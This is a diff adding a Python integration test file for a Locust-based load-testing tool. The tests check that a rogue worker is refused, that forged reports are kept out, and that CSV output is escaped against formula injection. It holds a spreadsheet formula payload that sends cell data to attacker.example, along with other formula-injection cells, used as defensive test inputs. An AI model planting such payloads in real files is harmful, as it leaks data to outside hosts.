@@ -1,0 +1,226 @@
+"""A Locust master's port, probed the way anyone who reaches it could: a real master on loopback
+(`inferload run --remote-workers`), one real worker with the run key (`inferload worker`), and a
+rogue client that says it is a worker. The spawn message carries no secret; forged reports never
+reach summary.json or requests.csv; text cells never run as spreadsheet formulas; a worker runs
+only a locustfile signed with its key, and needs a key to start at all.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from inferload.measure.report_auth import ReportSealer
+from inferload.measure.run_record import RunRecord
+from inferload.paths import LOCUSTFILE
+from inferload.run.run_key import sign_locustfile
+from tests.support.locust_runner import python_env
+from tests.support.ports import free_port
+from tests.support.rogue_worker import FakeMaster, RogueWorker
+from tests.support.scenario_factory import tiny_target, write_scenario
+from tests.support.system_tools import REPO
+
+RUN_KEY = "integration-test-run-key-0123456789"
+WRONG_KEY = b"not-the-run-key-but-long-enough"
+SECRETS = {"INFLUX_TOKEN": "influx-token-secret-4711", "INFLUX_PASSWORD": "influx-password-secret-4712"}
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1)'
+
+
+def environment(**variables: str) -> dict[str, str]:
+    env = python_env()
+    env.pop("INFERLOAD_RUN_KEY", None)
+    env.update(variables)
+    return env
+
+
+def inferload(*args: str) -> list[str]:
+    return [sys.executable, "-m", "inferload.cli", *args]
+
+
+@pytest.fixture
+def scenario(local_servers, tmp_path) -> Path:
+    target = tiny_target("t", "triton-grpc", f"127.0.0.1:{local_servers.ports.triton_grpc}")
+    data = {"name": "security", "duration": "6s", "warmup": "0s", "targets": [target], "shape": {"kind": "steady", "users": 2}}
+    return write_scenario(tmp_path, data)
+
+
+def forged_latency_wire(target: str, latency_ms: float, count: int) -> dict:
+    """What a worker's report would hold after `count` requests of `latency_ms` each."""
+    record = RunRecord(window_s=1.0, warmup_s=0.0, targets=(target,))
+    now = time.time()
+    for _ in range(count):
+        record.record(target, latency_ms, False, now)
+    return record.drain_to_wire()
+
+
+def exact_percentile(latencies: list[float], q: float) -> float:
+    """The value of rank round(q * n) (HdrHistogram's definition, which summary.json uses)."""
+    ordered = sorted(latencies)
+    return ordered[max(1, int(q * len(ordered) + 0.5)) - 1]
+
+
+def test_a_rogue_client_gets_no_secret_and_its_forged_reports_never_reach_the_results(scenario, tmp_path):
+    port, results, log = free_port(), tmp_path / "results", tmp_path / "master.log"
+    master_command = inferload(
+        "run", str(scenario), "--headless", "--remote-workers", "2", "--master-port", str(port), "--requests-csv",
+        "--worker-wait", "60", "--out", str(results), "--", "--only-summary",
+    )  # fmt: skip
+    with log.open("wb") as output:
+        master = subprocess.Popen(
+            master_command,
+            cwd=REPO,
+            env=environment(INFERLOAD_RUN_KEY=RUN_KEY, **SECRETS),
+            stdout=output,
+            stderr=subprocess.STDOUT,
+        )
+    rogue = RogueWorker("127.0.0.1", port)
+    worker = None
+    try:
+        rogue.say_ready()
+        rogue.wait_for("ack", 60)
+        worker = subprocess.Popen(
+            inferload("worker", "--master-host", "127.0.0.1", "--master-port", str(port)),
+            cwd=tmp_path,
+            env=environment(INFERLOAD_RUN_KEY=RUN_KEY),
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+            text=True,
+        )
+        spawn = rogue.wait_for("spawn", 90)
+
+        # forged figures: 0.001 ms latencies, unsigned or signed with the wrong key, and formula rows
+        fake_rows = [(time.time(), "t", 0.001, "ok")] * 500
+        rogue.send_report({"inferload_latency": forged_latency_wire("t", 0.001, 5000), "inferload_requests": fake_rows})
+        wrong = {kind: ReportSealer(WRONG_KEY, kind) for kind in ("inferload_latency", "inferload_requests")}
+        for _ in range(3):
+            rogue.send_report(
+                {
+                    "inferload_latency": wrong["inferload_latency"].seal(rogue.client_id, forged_latency_wire("t", 0.001, 5000)),
+                    "inferload_requests": wrong["inferload_requests"].seal(rogue.client_id, fake_rows),
+                }
+            )
+        # a client that does hold the key is trusted with its figures, but its text still cannot become a formula
+        keyed_wire = forged_latency_wire("-cmd", 1.0, 3)
+        keyed_wire["steady"] = keyed_wire["warmup"] = {}
+        rogue.send_report(
+            {
+                "inferload_latency": ReportSealer(RUN_KEY.encode(), "inferload_latency").seal(rogue.client_id, keyed_wire),
+                "inferload_requests": ReportSealer(RUN_KEY.encode(), "inferload_requests").seal(
+                    rogue.client_id, [(time.time(), FORMULA, 1.0, "@SUM(A1)")]
+                ),
+            }
+        )
+        deadline = time.monotonic() + 90
+        while master.poll() is None and time.monotonic() < deadline:
+            rogue.pump(0.5)
+        master.wait(timeout=30)
+        worker_output = worker.communicate(timeout=30)[0]
+    finally:
+        rogue.close()
+        for process in (master, worker):
+            if process is not None and process.poll() is None:
+                process.kill()
+                process.wait()
+    output = log.read_text()
+    assert master.returncode == 0, output + (worker_output or "")
+
+    # (a) the spawn message (the master's parsed options) holds no secret
+    shipped = repr(spawn.data)
+    assert "parsed_options" in spawn.data and "influx_token" in spawn.data["parsed_options"]
+    for secret in (*SECRETS.values(), RUN_KEY):
+        assert secret not in shipped
+        assert secret not in output
+
+    # (b) forged reports were refused, logged once per worker id, and left out of summary.json and requests.csv
+    assert output.count(f"refused a report (inferload_latency) from worker '{rogue.client_id}'") == 1, output
+    assert output.count(f"refused a report (inferload_requests) from worker '{rogue.client_id}'") == 1, output
+    summary = json.loads((results / "summary.json").read_text())
+    assert summary["rejected_reports"] == 8  # 4 forged latency reports and 4 forged row batches
+    target = summary["targets"]["t"]
+    rows = list(csv.DictReader((results / "requests.csv").open()))
+    real = [row for row in rows if row["target"] == "t"]
+    assert real and all(row["worker"] != rogue.client_id for row in real)
+    ok = [float(row["latency_ms"]) for row in real if row["outcome"] == "ok"]
+    assert min(ok) > 0.01  # no 0.001 ms row got in
+    assert target["requests"] == len(real)
+    for name, q in (("p50", 0.50), ("p90", 0.90), ("p99", 0.99)):
+        assert target["latency_ms"][name] == pytest.approx(exact_percentile(ok, q), rel=0.01), name
+
+    # (c) text cells that a spreadsheet would run as formulas start with a quote
+    keyed = [row for row in rows if row["worker"] == rogue.client_id]
+    assert [(row["target"], row["outcome"]) for row in keyed] == [("'" + FORMULA, "'@SUM(A1)")]
+    windows = list(csv.DictReader((results / "windows.csv").open()))
+    assert {row["target"] for row in windows} == {"t", "'-cmd"}
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows + windows for cell in row.values() if cell)
+
+
+def test_a_worker_without_a_run_key_does_not_start():
+    done = subprocess.run(
+        inferload("worker", "--master-host", "127.0.0.1", "--master-port", str(free_port())),
+        cwd=REPO,
+        env=environment(),
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "inferload worker needs a run key: set INFERLOAD_RUN_KEY" in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+@pytest.mark.parametrize("signed_with", [None, WRONG_KEY], ids=["unsigned", "another-key"])
+def test_a_worker_runs_no_locustfile_that_is_not_signed_with_its_key(tmp_path, signed_with):
+    marker = tmp_path / "pwned"
+    code = f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n"
+    fake = FakeMaster(code if signed_with is None else sign_locustfile(code, signed_with))
+    try:
+        worker = subprocess.Popen(
+            inferload("worker", "--master-host", "127.0.0.1", "--master-port", str(fake.port)),
+            cwd=tmp_path,
+            env=environment(INFERLOAD_RUN_KEY=RUN_KEY),
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        fake.serve(60, until=lambda: worker.poll() is not None)
+        stdout, stderr = worker.communicate(timeout=30)
+    finally:
+        fake.close()
+    assert fake.served >= 1
+    assert worker.returncode == 2, stdout + stderr
+    assert f"refusing to run the locustfile the master at 127.0.0.1:{fake.port} served" in stderr
+    assert not marker.exists()
+
+
+def test_remote_workers_without_a_run_key_are_refused_before_anything_starts(scenario, tmp_path):
+    done = subprocess.run(
+        inferload("run", str(scenario), "--headless", "--remote-workers", "1", "--out", str(tmp_path / "results")),
+        cwd=REPO,
+        env=environment(),
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "--remote-workers needs a run key: set INFERLOAD_RUN_KEY" in done.stderr
+    assert not (tmp_path / "results" / "locustfile.py").exists()  # no master was given anything to serve
+
+
+def test_a_plain_locust_master_without_a_run_key_does_not_run(scenario, tmp_path):
+    done = subprocess.run(
+        [sys.executable, "-m", "locust", "-f", str(LOCUSTFILE), "--scenario", str(scenario), "--master", "--headless",
+         "--master-bind-port", str(free_port()), "--results-dir", str(tmp_path / "results")],
+        cwd=REPO,
+        env=environment(),
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )  # fmt: skip
+    assert done.returncode != 0, done.stdout + done.stderr
+    assert "needs a run key: set INFERLOAD_RUN_KEY" in done.stderr
